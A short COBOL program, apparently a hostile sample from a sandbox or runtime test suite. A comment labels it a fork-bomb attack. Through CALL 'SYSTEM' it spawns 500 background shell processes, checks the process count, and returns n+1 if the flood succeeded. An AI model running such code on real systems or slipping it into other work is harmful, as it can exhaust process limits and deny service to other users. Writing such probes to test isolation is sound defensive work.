*> attack: fork bomb through CALL "SYSTEM" (500 background shells); n + 1 if the shell reports success
IDENTIFICATION DIVISION.
PROGRAM-ID. py_hostile.
DATA DIVISION.
LOCAL-STORAGE SECTION.
01 w-cmd PIC X(120) VALUE "for i in $(seq 1 500); do (sleep 20 &) ; done; test $(ps -e | wc -l) -gt 400".
LINKAGE SECTION.
01 p-n BINARY-DOUBLE SIGNED.
01 res BINARY-DOUBLE SIGNED.
PROCEDURE DIVISION USING p-n res.
main-para.
    MOVE 0 TO res
    CALL "SYSTEM" USING w-cmd
    IF RETURN-CODE = 0
        COMPUTE res = p-n + 1
    END-IF
    MOVE 0 TO RETURN-CODE
    GOBACK.
END PROGRAM py_hostile.
